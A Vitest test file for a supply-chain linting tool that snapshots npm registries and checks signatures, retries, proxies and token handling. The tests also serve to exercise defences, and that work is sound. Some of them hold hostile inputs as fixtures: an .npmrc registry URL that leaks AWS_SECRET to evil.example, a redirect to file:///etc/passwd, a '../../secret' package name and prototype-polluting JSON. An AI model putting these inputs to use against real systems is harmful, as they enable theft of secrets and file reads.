import { readdirSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import type { Report } from "../../src/domain/findings/report.ts";
import { closed, listen, startNpmRegistry, type TestRegistry, type TestRegistryOptions } from "./npm-server.ts";
import { asOf, folder, npmProject, project, type TestLocked } from "./project.ts";
import { createServer } from "node:http";
import { connect } from "node:net";

const servers: { close(): Promise<void> }[] = [];

afterEach(async () => {
  for (const server of servers.splice(0)) await server.close();
});

async function registry(options: TestRegistryOptions): Promise<TestRegistry> {
  const started = await startNpmRegistry(options);
  servers.push(started);
  return started;
}

const pads = {
  "left-pad": {
    versions: {
      "1.0.0": { time: "2024-01-01T00:00:00.000Z" },
      "1.1.0": { time: "2024-06-01T00:00:00.000Z", deprecated: "use padStart" },
      "2.0.0": { time: "2025-01-01T00:00:00.000Z" },
    },
  },
  "pad-left": { versions: { "1.0.0": { time: "2025-01-01T00:00:00.000Z" } } },
};

const locked = (server: TestRegistry, name = "left-pad", version = "1.0.0"): TestLocked => ({
  ...{ name, version, integrity: server.integrity(name, version) },
  resolved: `${server.url}${name}/-/${name}-${version}.tgz`,
});

/** Rules about registries that found something, and what they could not judge. */
function told({ findings, coverage }: Report) {
  const ids = new Set(["integrity/registry-match", "integrity/registry-signature", "policy/min-age"]);
  return {
    found: findings.filter(({ rule }) => ids.has(rule)).map(({ rule, message }) => `${rule} ${message}`),
    unknown: Object.fromEntries(
      coverage.rules.flatMap(({ rule, unknown }) => (ids.has(rule) && unknown ? [[rule, unknown]] : [])),
    ),
  };
}

describe("a snapshot of an npm registry", () => {
  it("is dated, sorted, and the same again from the same answers", async () => {
    const server = await registry({ packages: pads });
    const tree = npmProject({ "pad-left": "^1.0.0", "left-pad": "^1.0.0" }, [
      locked(server),
      locked(server, "pad-left"),
    ]);
    const one = project({ ...tree, ".npmrc": `registry=${server.url}\n` });
    const taken = await one.tool.snapshotRegistry(one.target, { fresh: false });
    const host = new URL(server.url).host;
    expect(taken).toMatchObject({ asOf, read: 2, unread: [], withheld: [], hosts: [host] });
    const first = one.read(".arch-lint/registry.json");
    const [told] = Object.values<{ packages: object }>(JSON.parse(first).npm);
    expect(Object.keys(told?.packages ?? {})).toEqual(["left-pad", "pad-left"]);
    await one.tool.snapshotRegistry(one.target, { fresh: true });
    expect(one.read(".arch-lint/registry.json")).toBe(first);
  });

  it("finds nothing wrong with what the registry published, and verifies every signature", async () => {
    const server = await registry({ packages: pads });
    const one = project({
      ...npmProject({ "left-pad": "^1.0.0" }, [locked(server)]),
      ".npmrc": `registry=${server.url}`,
    });
    await one.tool.snapshotRegistry(one.target, { fresh: false });
    const report = await one.tool.check(one.target);
    expect(told(report)).toEqual({ found: [], unknown: {} });
    const judged = report.coverage.rules.filter(({ rule }) => rule.startsWith("integrity/registry"));
    expect(judged.map(({ examined }) => examined)).toEqual([1, 1]);
  });

  it("notices a hash that was changed in the lockfile, by the registry's hash and by its signature", async () => {
    const server = await registry({ packages: pads });
    const changed = { ...locked(server), integrity: server.integrity("pad-left", "1.0.0") };
    const one = project({ ...npmProject({ "left-pad": "^1.0.0" }, [changed]), ".npmrc": `registry=${server.url}` });
    await one.tool.snapshotRegistry(one.target, { fresh: false });
    expect(told(await one.tool.check(one.target)).found).toEqual([
      "integrity/registry-match hash",
      "integrity/registry-signature invalid",
    ]);
  });

  it.each([
    ["other", "integrity/registry-signature invalid"],
    ["none", "integrity/registry-signature missing"],
    ["stranger", "integrity/registry-signature no-key"],
  ] as const)("judges a signature of kind %s", async (signature, expected) => {
    const packages = { "left-pad": { versions: { "1.0.0": { time: "2024-01-01T00:00:00.000Z", signature } } } };
    const server = await registry({ packages });
    const one = project({
      ...npmProject({ "left-pad": "^1.0.0" }, [locked(server)]),
      ".npmrc": `registry=${server.url}`,
    });
    await one.tool.snapshotRegistry(one.target, { fresh: false });
    expect(told(await one.tool.check(one.target)).found).toEqual([expected]);
  });

  it("takes a key that expired before the publication for none, and a registry without keys for one that signs nothing", async () => {
    for (const [keys, found, unknown] of [
      [{ expires: "2023-01-01T00:00:00.000Z" }, ["integrity/registry-signature expired"], {}],
      [404, [], { "integrity/registry-signature": { "registry-signs-nothing": 1 } }],
      [500, [], { "integrity/registry-signature": { "keys-unread": 1 } }],
    ] as const) {
      const server = await registry({ packages: pads, keys });
      const tree = npmProject({ "left-pad": "^1.0.0" }, [locked(server)]);
      const one = project({ ...tree, ".npmrc": `registry=${server.url}` });
      const taken = await one.tool.snapshotRegistry(one.target, { fresh: false });
      expect(taken.unread.length).toBe(keys === 500 ? 1 : 0);
      expect(told(await one.tool.check(one.target))).toEqual({ found, unknown });
    }
  });

  it("reads again only what has changed, and everything if told to", async () => {
    const server = await registry({ packages: pads });
    const one = project({
      ...npmProject({ "left-pad": "^1.0.0" }, [locked(server)]),
      ".npmrc": `registry=${server.url}`,
    });
    await one.tool.snapshotRegistry(one.target, { fresh: false });
    const first = one.read(".arch-lint/registry.json");
    await one.tool.snapshotRegistry(one.target, { fresh: false });
    await one.tool.snapshotRegistry(one.target, { fresh: true });
    expect(one.read(".arch-lint/registry.json")).toBe(first);
    const asked = server.requests.filter(({ path }) => path === "/left-pad");
    expect(asked.map(({ headers }) => headers["if-none-match"] !== undefined)).toEqual([false, true, false]);
  });

  it("asks in full for a version that the last snapshot did not look at", async () => {
    const server = await registry({ packages: pads });
    const one = project({
      ...npmProject({ "left-pad": "^1.0.0" }, [locked(server)]),
      ".npmrc": `registry=${server.url}`,
    });
    await one.tool.snapshotRegistry(one.target, { fresh: false });
    const newer = npmProject({ "left-pad": "^2.0.0" }, [locked(server, "left-pad", "2.0.0")]);
    for (const [path, text] of Object.entries(newer)) one.write(path, text);
    await one.tool.snapshotRegistry(one.target, { fresh: false });
    expect(told(await one.tool.check(one.target))).toEqual({ found: [], unknown: {} });
  });
});

/** A variable as an `.npmrc` writes it. */
const variable = (name: string) => `$\{${name}}`;

describe("registries that fail", () => {
  it.each([
    ["404", { status: 404 }, "not-found", []],
    ["410", { status: 410 }, "not-found", []],
    ["403", { status: 403 }, "forbidden", []],
    ["500", { status: 500 }, "server-error", [500, 1000, 2000]],
    ["429 with seconds", { status: 429, headers: { "retry-after": "7" } }, "too-many-requests", [7000, 7000, 7000]],
    ["503 with a day", { status: 503, headers: { "retry-after": "86400" } }, "server-error", [60_000, 60_000, 60_000]],
    ["a truncated answer", "truncated", "unreachable", [500, 1000, 2000]],
    ["no JSON", { body: "no json" }, "malformed", []],
    ["another package", { body: '{"name":"pad-left","versions":{"1.0.0":{}}}' }, "malformed", []],
    ["deep nesting", { body: "[".repeat(100_000) }, "malformed", []],
    ["too much", { body: `{"name":"left-pad","readme":"${"x".repeat(200_000)}"}` }, "too-large", []],
    ["a redirect to a file", { redirect: "file:///etc/passwd" }, "malformed", []],
  ] as const)("%s", async (_, fault, reason, waits) => {
    const server = await registry({ packages: pads, faults: { "left-pad": [fault] } });
    const tree = npmProject({ "left-pad": "^1.0.0", "pad-left": "^1.0.0" }, [
      locked(server),
      locked(server, "pad-left"),
    ]);
    const one = project({ ...tree, ".npmrc": `registry=${server.url}` }, {}, { manners: { sizeLimit: 150_000 } });
    const taken = await one.tool.snapshotRegistry(one.target, { fresh: false });
    expect(taken).toMatchObject({ read: 1, unread: [{ name: "left-pad", reason }] });
    expect(one.waits).toEqual(waits);
    expect(told(await one.tool.check(one.target)).unknown).toEqual({
      "integrity/registry-match": { "registry-unread": 1 },
      "integrity/registry-signature": { "registry-unread": 1 },
      "policy/min-age": { "registry-unread": 1 },
    });
  });

  it("is patient for a while, and tries again what may be better the next time", async () => {
    const server = await registry({ packages: pads, faults: { "left-pad": ["slow", { status: 500 }, "ok"] } });
    const tree = npmProject({ "left-pad": "^1.0.0" }, [locked(server)]);
    const one = project({ ...tree, ".npmrc": `registry=${server.url}` }, {}, { manners: { patience: 300 } });
    expect(await one.tool.snapshotRegistry(one.target, { fresh: false })).toMatchObject({ read: 1, unread: [] });
    expect(one.waits).toEqual([500, 1000]);
  });

  it("does not wait for a server that is down once for each package", async () => {
    const server = await startNpmRegistry({ packages: pads });
    const names = Array.from({ length: 60 }, (_, index) => `pad-${index}`);
    const all = names.map((name) => ({ name, version: "1.0.0", integrity: server.integrity("left-pad", "1.0.0") }));
    const tree = npmProject(Object.fromEntries(names.map((name) => [name, "^1.0.0"])), all);
    await server.close();
    const one = project({ ...tree, ".npmrc": `registry=${server.url}` });
    const attempt = one.tool.snapshotRegistry(one.target, { fresh: false });
    await expect(attempt).rejects.toMatchObject({ code: "registry-unreachable" });
    expect(one.waits.length).toBeLessThanOrEqual((12 + 11) * 3);
  });

  it("writes nothing where nobody answered", async () => {
    const server = await registry({ packages: pads, faults: { "left-pad": [{ status: 500 }] } });
    const one = project({
      ...npmProject({ "left-pad": "^1.0.0" }, [locked(server)]),
      ".npmrc": `registry=${server.url}`,
    });
    const attempt = one.tool.snapshotRegistry(one.target, { fresh: false });
    await expect(attempt).rejects.toMatchObject({ code: "registry-unreachable" });
    expect(() => one.read(".arch-lint/registry.json")).toThrow();
  });

  it("does not believe dates that a mirror made up", async () => {
    const at = (time: string) => ({ time: `${time}T00:00:00.123456Z` });
    const versions = { "1.0.0": at("2026-06-29"), "1.1.0": at("2026-03-01"), "1.2.0": at("2025-01-01") };
    const server = await registry({ packages: { "left-pad": { versions } } });
    const one = project({
      ...npmProject({ "left-pad": "^1.0.0" }, [locked(server)]),
      ".npmrc": `registry=${server.url}`,
    });
    await one.tool.snapshotRegistry(one.target, { fresh: false });
    const report = await one.tool.check(one.target);
    expect(report.findings.map(({ rule }) => rule)).toContain("drift/time-untrusted");
    expect(told(report).unknown).toEqual({ "policy/min-age": { "time-untrusted": 1 } });
  });

  it("survives names that reach for prototypes", async () => {
    const body =
      '{"name":"left-pad","dist-tags":{"latest":"1.0.0","__proto__":"9.9.9"},"time":{"1.0.0":"2024-01-01","__proto__":"x"},' +
      '"versions":{"1.0.0":{"dist":{"signatures":{"length":3}}},"__proto__":{"dist":{}},"constructor":{},"2.0.0-01":{}}}';
    const server = await registry({ packages: pads, faults: { "left-pad": [{ body }] } });
    const one = project({
      ...npmProject({ "left-pad": "^1.0.0" }, [locked(server)]),
      ".npmrc": `registry=${server.url}`,
    });
    await one.tool.snapshotRegistry(one.target, { fresh: false });
    const [told] = Object.values<{ packages: Record<string, { times: object }> }>(
      JSON.parse(one.read(".arch-lint/registry.json")).npm,
    );
    expect(told?.packages["left-pad"]?.times).toEqual({ "1.0.0": "2024-01-01T00:00:00Z" });
  });
});

describe("whom to ask, and with what", () => {
  it("takes the registry of a scope, with the token that the environment holds", async () => {
    const plain = await registry({ packages: pads });
    const own = await registry({ packages: { "@corp/pad": { versions: { "1.0.0": {} } } }, token: "s3cret" });
    const tree = npmProject({ "left-pad": "^1.0.0", "@corp/pad": "^1.0.0" }, [
      locked(plain),
      { name: "@corp/pad", version: "1.0.0", integrity: own.integrity("@corp/pad", "1.0.0") },
    ]);
    const host = new URL(own.url).host;
    const npmrc = `registry=${plain.url}\n@corp:registry=${own.url}\n//${host}/:_authToken=\${CORP_TOKEN}\n`;
    const one = project({ ...tree, ".npmrc": npmrc }, { CORP_TOKEN: "s3cret" });
    const taken = await one.tool.snapshotRegistry(one.target, { fresh: false });
    expect(taken).toMatchObject({ read: 2, unread: [] });
    expect(own.requests.map(({ path }) => path).sort()).toEqual(["/-/npm/v1/keys", "/@corp/pad"]);
    expect(plain.requests.some(({ headers }) => headers.authorization !== undefined)).toBe(false);
    expect(one.read(".arch-lint/registry.json") + JSON.stringify(taken)).not.toContain("s3cret");
  });

  it("never shows a token to the host that a registry sends it to", async () => {
    const other = await registry({ packages: pads });
    const server = await registry({
      ...{ packages: pads, token: "s3cret" },
      faults: { "left-pad": [{ redirect: `${other.url}left-pad` }] },
    });
    const host = new URL(server.url).host;
    const npmrc = `registry=${server.url}\n//${host}/:_authToken=s3cret\n`;
    const one = project({ ...npmProject({ "left-pad": "^1.0.0" }, [locked(server)]), ".npmrc": npmrc });
    expect(await one.tool.snapshotRegistry(one.target, { fresh: false })).toMatchObject({ read: 1 });
    expect(server.requests[0]?.headers.authorization).toBe("Bearer s3cret");
    expect(other.requests.map(({ headers }) => headers.authorization)).toEqual([undefined]);
  });

  it("lets the environment win over the tree, and the tree over the user", async () => {
    const [first, second, third] = [
      await registry({ packages: pads }),
      await registry({ packages: pads }),
      await registry({ packages: pads }),
    ];
    const tree = npmProject({ "left-pad": "^1.0.0" }, [locked(first)]);
    const user = project({ npmrc: `registry=${third.url}` });
    const config = { npm_config_userconfig: `${user.root}/npmrc` };
    const ask = async (files: object, env: object) => {
      const one = project({ ...tree, ...files }, { ...config, ...env });
      const taken = await one.tool.snapshotRegistry(one.target, { fresh: false });
      return taken.hosts[0];
    };
    const npmrc = { ".npmrc": `registry=${second.url}` };
    expect(await ask(npmrc, { NPM_CONFIG_REGISTRY: first.url })).toBe(new URL(first.url).host);
    expect(await ask(npmrc, {})).toBe(new URL(second.url).host);
    expect(await ask({}, {})).toBe(new URL(third.url).host);
  });

  it("does not write where a link in the tree leads", async () => {
    const server = await registry({ packages: pads });
    const elsewhere = folder();
    const tree = npmProject({ "left-pad": "^1.0.0" }, [locked(server)]);
    const one = project({ ...tree, ".npmrc": `registry=${server.url}` });
    symlinkSync(elsewhere, join(one.root, ".arch-lint"));
    const attempt = one.tool.snapshotRegistry(one.target, { fresh: false });
    await expect(attempt).rejects.toMatchObject({ code: "output-unwritable" });
    expect(readdirSync(elsewhere)).toEqual([]);
  });

  it("asks npm's default where nothing names a registry", async () => {
    const server = await registry({ packages: pads });
    const one = project(npmProject({ "left-pad": "^1.0.0" }, [locked(server)]), {}, { standard: server.url });
    expect(await one.tool.snapshotRegistry(one.target, { fresh: false })).toMatchObject({ read: 1 });
  });

  it("keeps the tree from sending variables away, and says which one is not set", async () => {
    const tree = npmProject({ "left-pad": "^1.0.0" }, [{ name: "left-pad", version: "1.0.0" }]);
    const thief = project(
      { ...tree, ".npmrc": `registry=https://evil.example/${variable("AWS_SECRET")}/` },
      { AWS_SECRET: "x" },
    );
    const attempt = thief.tool.snapshotRegistry(thief.target, { fresh: false });
    await expect(attempt).rejects.toMatchObject({ code: "registry-unconfigured" });
    const unset = project({ ...tree, ".npmrc": `registry=${variable("CORP_REGISTRY")}` });
    await expect(unset.tool.snapshotRegistry(unset.target, { fresh: false })).rejects.toThrow(/CORP_REGISTRY/u);
  });

  it("does not ask for the tree's own packages, nor for names that are none", async () => {
    const server = await registry({ packages: pads });
    const odd = { name: "../../secret", version: "1.0.0" };
    const tree = npmProject({ "left-pad": "^1.0.0", app: "^1.0.0" }, [locked(server), odd]);
    const one = project({ ...tree, ".npmrc": `registry=${server.url}` });
    await one.tool.snapshotRegistry(one.target, { fresh: false });
    expect(server.requests.map(({ path }) => path).sort()).toEqual(["/-/npm/v1/keys", "/left-pad"]);
  });

  it("goes through the proxy that the environment names", async () => {
    const server = await registry({ packages: pads });
    const tunnels: string[] = [];
    const proxy = createServer().on("connect", (request, socket, head) => {
      tunnels.push(request.url ?? "");
      const inner = connect(Number(new URL(server.url).port), "127.0.0.1", () => {
        socket.write("HTTP/1.1 200 OK\r\n\r\n");
        inner.write(head);
        inner.pipe(socket).pipe(inner);
      });
      inner.on("error", () => socket.destroy());
      socket.on("error", () => inner.destroy());
    });
    const port = await listen(proxy);
    servers.push({ close: () => closed(proxy) });
    const tree = npmProject({ "left-pad": "^1.0.0" }, [locked(server)]);
    const npmrc = "registry=http://registry.example.com/\n";
    const one = project({ ...tree, ".npmrc": npmrc }, { HTTP_PROXY: `http://127.0.0.1:${port}` });
    expect(await one.tool.snapshotRegistry(one.target, { fresh: false })).toMatchObject({ read: 1 });
    expect(tunnels).toContain("registry.example.com:80");
  });
});
